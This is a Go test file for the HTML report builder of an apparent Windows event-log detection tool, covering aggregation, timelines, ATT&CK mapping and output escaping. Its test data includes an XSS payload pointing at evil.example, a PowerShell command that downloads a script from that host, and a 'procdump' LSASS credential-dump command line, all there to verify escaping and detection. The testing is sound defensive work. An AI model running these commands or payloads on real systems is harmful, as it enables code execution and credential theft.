package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/vigil-defense/vigil/internal/detect"
	"github.com/vigil-defense/vigil/internal/event"
)

var t0 = time.Date(2024, 3, 5, 8, 0, 0, 0, time.UTC)

func det(level, rule string, at time.Duration, computer string, tags []string, fields ...string) detect.Detection {
	d := detect.Detection{
		Time: t0.Add(at), RuleID: "id-" + rule, RuleTitle: rule, Level: level, Author: "author of " + rule,
		Tags: tags, Computer: computer, Channel: "Security", EventID: "4625", Source: "Security.evtx",
	}
	for i := 0; i+1 < len(fields); i += 2 {
		d.Fields = append(d.Fields, event.Field{Name: fields[i], Value: fields[i+1]})
	}
	return d
}

// sample is a small hunt: brute force on two hosts, a credential dump, an
// untimed detection and a correlation over the brute force.
func sample() []detect.Detection {
	bf := []string{"attack.credential-access", "attack.t1110.001"}
	dump := []string{"attack.credential-access", "attack.t1003.001", "attack.s0002"}
	ds := []detect.Detection{
		det("medium", "Failed logon", 0, "DC1", bf, "TargetUserName", "alice", "IpAddress", "10.0.0.9"),
		det("medium", "Failed logon", time.Minute, "DC1", bf, "SubjectUserName", "-", "TargetUserName", "alice"),
		det("medium", "Failed logon", 2*time.Minute, "WS7", bf, "TargetUserName", "bob"),
		det("critical", "LSASS dump", time.Hour, "WS7", dump, "User", "CORP\\eve", "TargetUserName", "ignored", "CommandLine", "procdump -ma lsass.exe"),
		det("low", "No tags", 2*time.Hour, "", nil),
		det("weird", "Odd level", 0, "WS7", []string{"attack.t9999"}),
	}
	ds[5].Time = time.Time{}
	ds[0].RecordID, ds[1].RecordID = 11, 12
	corr := det("high", "Brute force", 3*time.Minute, "", []string{"attack.t1110"})
	corr.Correlation = &detect.CorrelationInfo{
		Type: "event_count", Group: map[string]string{"TargetUserName": "alice", "Computer": "DC1"},
		WindowStart: t0, WindowEnd: t0.Add(10 * time.Minute), Value: 2,
		Events: []detect.EventRef{ // out of order on purpose
			{Time: t0.Add(time.Minute), Source: "Security.evtx", RecordID: 12, RuleID: "id-Failed logon"},
			{Time: t0, Source: "Security.evtx", RecordID: 11, RuleID: "id-Failed logon"},
			{Time: t0, Source: "Other.evtx", RecordID: 99, RuleID: "id-unseen"},
		},
	}
	return append(ds, corr)
}

func build(ds []detect.Detection, maxRows int) *Report {
	b := NewBuilder(Meta{Version: "test", Paths: []string{"logs"}, Files: 2, Events: 1000, RulesLoaded: 5, CorrelationRules: 1})
	b.MaxRows = maxRows
	for i := range ds {
		b.Add(&ds[i])
	}
	return b.Report()
}

func TestBuilderAggregates(t *testing.T) {
	r := build(sample(), 4)
	if r.Total != 7 {
		t.Errorf("total %d, want 7", r.Total)
	}
	want := Levels{Critical: 1, High: 1, Medium: 3, Low: 1, Other: 1}
	if r.ByLevel != want {
		t.Errorf("by level %+v, want %+v", r.ByLevel, want)
	}
	if r.Untimed != 1 || !r.FirstTime.Equal(t0) || !r.LastTime.Equal(t0.Add(2*time.Hour)) {
		t.Errorf("untimed %d, span %v–%v", r.Untimed, r.FirstTime, r.LastTime)
	}
	// Truncation: four rows kept, three counted only.
	if len(r.Rows) != 4 || r.RowsDropped != 3 {
		t.Errorf("rows %d dropped %d, want 4 and 3", len(r.Rows), r.RowsDropped)
	}
	if r.Rules[0].Title != "Failed logon" || r.Rules[0].Count != 3 || r.Rules[0].Author != "author of Failed logon" {
		t.Errorf("top rule %+v", r.Rules[0])
	}
	if got := fmt.Sprint(r.Hosts); got != "[{WS7 3} {DC1 2}]" {
		t.Errorf("hosts %s", got)
	}
	// User first, then TargetUserName, then SubjectUserName; "-" is no user.
	if got := fmt.Sprint(r.Users); got != "[{alice 2} {CORP\\eve 1} {bob 1}]" {
		t.Errorf("users %s", got)
	}
	techs := map[string]int{}
	for _, te := range r.Techniques {
		techs[te.ID] = te.Count
	}
	if fmt.Sprint(techs) != "map[T1003.001:1 T1110:1 T1110.001:3]" {
		t.Errorf("techniques %v", techs)
	}
	tactics := map[string]int{}
	for i, ta := range r.Tactics {
		tactics[ta.Short] = ta.Count
		if i > 0 && ta.Domain == r.Tactics[i-1].Domain && ta.ID == r.Tactics[i-1].ID {
			t.Errorf("tactic %s twice", ta.ID)
		}
	}
	if len(r.Tactics) != 14 || r.Tactics[0].Short != "reconnaissance" || r.Tactics[13].Short != "impact" {
		t.Errorf("tactics not the enterprise matrix in order: %v", r.Tactics)
	}
	if tactics["credential-access"] != 5 {
		t.Errorf("credential-access %d, want 5", tactics["credential-access"])
	}
	// Timeline: every timed detection in a bucket, contiguous buckets.
	sum := 0
	for i, b := range r.Timeline.Buckets {
		sum += b.Levels.Total()
		if i > 0 && !b.Start.Equal(r.Timeline.Buckets[i-1].Start.Add(r.Timeline.Width)) {
			t.Errorf("bucket %d not contiguous", i)
		}
	}
	if sum != 6 {
		t.Errorf("timeline holds %d detections, want 6", sum)
	}
	// The story: kept although its row was not, events in time order, linked
	// to the table and named.
	if len(r.Stories) != 1 {
		t.Fatalf("%d stories", len(r.Stories))
	}
	s := r.Stories[0]
	if fmt.Sprint(s.Group) != "[{Computer DC1} {TargetUserName alice}]" || s.Type != "event_count" {
		t.Errorf("story %+v", s)
	}
	var evs []string
	for _, e := range s.Events {
		evs = append(evs, fmt.Sprintf("%s#%d row %d %q", e.Source, e.RecordID, e.Row, e.RuleTitle))
	}
	if got := strings.Join(evs, "; "); got != `Security.evtx#11 row 0 "Failed logon"; Other.evtx#99 row -1 ""; Security.evtx#12 row 1 "Failed logon"` {
		t.Errorf("story events: %s", got)
	}
}

func TestBuilderBoundedTimeline(t *testing.T) {
	b := NewBuilder(Meta{})
	d := det("high", "r", 0, "h", nil)
	n := 0
	for at := time.Duration(0); at < 10*365*24*time.Hour; at += 37 * time.Minute {
		d.Time = t0.Add(at)
		b.Add(&d)
		n++
		if len(b.buckets) > maxBuckets {
			t.Fatalf("%d buckets kept after %d detections", len(b.buckets), n)
		}
	}
	r := b.Report()
	sum := 0
	for _, bk := range r.Timeline.Buckets {
		sum += bk.Levels.High
	}
	if sum != n || len(r.Timeline.Buckets) > maxBars || len(r.Rows) != DefaultMaxRows || r.RowsDropped != n-DefaultMaxRows {
		t.Errorf("%d detections: timeline %d in %d bars, %d rows, %d dropped", n, sum, len(r.Timeline.Buckets), len(r.Rows), r.RowsDropped)
	}
}

// externalRef finds attributes and CSS that would make a browser fetch
// something: src, href, action and the like, url() and @import.
var externalRef = regexp.MustCompile(`(?i)(\b(src|href|action|formaction|poster|srcset|background|xlink:href|data)\s*=\s*["']?\s*(https?:|//|ftp:))|url\(\s*["']?\s*(https?:|//)|@import`)

// dataBlock returns the JSON data block of page and the page without it.
func dataBlock(t *testing.T, page string) (string, string) {
	t.Helper()
	const open = `<script type="application/json" id="report-data">`
	i := strings.Index(page, open)
	if i < 0 {
		t.Fatal("no JSON data block")
	}
	j := strings.Index(page[i:], "</script>")
	return page[i+len(open) : i+j], page[:i] + page[i+j:]
}

func TestHTMLSelfContained(t *testing.T) {
	ds := sample()
	// Hostile log content must stay text.
	ds[3].Fields = append(ds[3].Fields, event.Field{Name: "CommandLine", Value: `</script><img src="https://evil.example/x.png"><script>alert(1)</script>`})
	ds[3].Fields[2].Value = `powershell iwr https://evil.example/a.ps1 -OutFile style="url(https://evil.example)"`
	ds[2].Computer = "bad\xff\xfeutf8"
	ds[0].RuleTitle = `<b onmouseover="x">Failed logon</b>`
	r := build(ds, 100)
	var buf bytes.Buffer
	if err := WriteHTML(&buf, r); err != nil {
		t.Fatal(err)
	}
	page := buf.String()
	if !utf8.ValidString(page) {
		t.Error("the page is not valid UTF-8")
	}
	data, rest := dataBlock(t, page)
	var back Report
	if err := json.Unmarshal([]byte(data), &back); err != nil {
		t.Fatalf("data block is not JSON: %v", err)
	}
	if back.Total != r.Total || len(back.Rows) != len(r.Rows) || len(back.Stories) != 1 {
		t.Errorf("data block: total %d rows %d stories %d", back.Total, len(back.Rows), len(back.Stories))
	}
	if strings.Contains(data, "</script") || strings.Contains(data, "<img") {
		t.Error("data block holds raw markup")
	}
	if m := externalRef.FindAllString(rest, -1); len(m) > 0 {
		t.Errorf("external references: %q", m)
	}
	if strings.Contains(rest, "http://") || strings.Contains(rest, "https://") {
		t.Error("the page outside the data block names a URL")
	}
	for _, bad := range []string{`<b onmouseover`, `<img src="https://evil`} {
		if strings.Contains(page, bad) {
			t.Errorf("unescaped %q", bad)
		}
	}
	for _, want := range []string{
		`http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;`,
		`id="overview"`, `id="timeline"`, `id="top"`, `id="attack"`, `id="stories"`, `id="detections"`,
		`data-total="7"`, `data-tech="T1110.001"`, `id="story-0"`, `Detection Rule License`,
		`author of LSASS dump`, `<svg class="chart"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %s", want)
		}
	}
}

func TestHTMLEmpty(t *testing.T) {
	for _, tc := range []struct {
		meta Meta
		want []string
	}{
		{Meta{Files: 3, Events: 500, RulesLoaded: 104}, []string{
			"No detections</strong>: the 104 rules found nothing in 500 events from 3 files",
			"No detections, so nothing to draw over time.",
			"No rule fired.", "No detections, so no hosts.", "No detections, so no users.",
			"No detections, so no ATT&amp;CK technique was observed.",
			"No correlation stories: no correlation rules were loaded.",
			"No detections: the 104 rules loaded found nothing in 500 events.",
		}},
		{Meta{RulesLoaded: 3, CorrelationRules: 2, Paths: []string{"empty-dir"}}, []string{
			"Nothing was scanned: no log files were found under the paths given (empty-dir).",
			"No correlation stories: none of the 2 correlation rules loaded fired.",
		}},
	} {
		var buf bytes.Buffer
		if err := WriteHTML(&buf, NewBuilder(tc.meta).Report()); err != nil {
			t.Fatal(err)
		}
		for _, w := range tc.want {
			if !strings.Contains(buf.String(), w) {
				t.Errorf("empty report lacks %q", w)
			}
		}
	}
	// Detections without tags, users or times say so.
	d := det("low", "plain", 0, "", nil)
	d.Time = time.Time{}
	b := NewBuilder(Meta{})
	b.Add(&d)
	var buf bytes.Buffer
	if err := WriteHTML(&buf, b.Report()); err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{
		"No bar to draw: none of the 1 detection carries an event time.",
		"No detection names a computer.", "No detection names a user",
		"No ATT&amp;CK technique to map: none of the 1 rule that fired carries an attack.tNNNN tag.",
	} {
		if !strings.Contains(buf.String(), w) {
			t.Errorf("report lacks %q", w)
		}
	}
}
